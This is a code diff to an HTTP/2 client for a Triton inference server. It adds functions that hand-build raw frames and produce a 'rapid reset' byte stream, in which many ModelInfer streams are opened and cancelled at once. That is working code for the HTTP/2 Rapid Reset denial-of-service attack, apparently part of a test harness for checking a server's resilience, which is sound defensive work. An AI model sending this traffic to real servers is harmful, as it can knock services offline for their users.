@@ -15,6 +15,7 @@ import h2.config
 import h2.connection
 import h2.events
 import h2.settings
+import hpack
 import numpy as np
 from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, SettingsFrame
 from tritonclient.grpc import service_pb2 as pb
@@ -148,6 +149,26 @@ class RawClient:
     def close(self) -> None:
         with contextlib.suppress(OSError):
             self.sock.close()
+
+
+def raw_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """One frame as bytes, whatever its stream (hyperframe refuses some)."""
+    return (len(payload).to_bytes(3, "big") + bytes([kind, flags])
+            + stream.to_bytes(4, "big") + payload)
+
+
+def rapid_reset_bytes(authority: str, streams: int) -> bytes:
+    """A connection's worth of rapid reset, as fast as bytes go: the preface, then
+    `streams` times a ModelInfer call (HEADERS, its message) reset at once (RST_STREAM
+    CANCEL). The header block uses no HPACK table, so one block serves every stream."""
+    block = hpack.Encoder().encode(
+        [hpack.NeverIndexedHeaderTuple(k, v) for k, v in headers(INFER, authority)])
+    message = grpc_message(identity_request())
+    out = [PREFACE, SettingsFrame(0).serialize()]
+    for stream in range(1, 2 * streams, 2):
+        out.append(raw_frame(0x1, 0x4, stream, block) + raw_frame(0x0, 0x1, stream, message)
+                   + raw_frame(0x3, 0x0, stream, (0x8).to_bytes(4, "big")))
+    return b"".join(out)
 
 
 def status_of(events: list, stream: int) -> str | None:
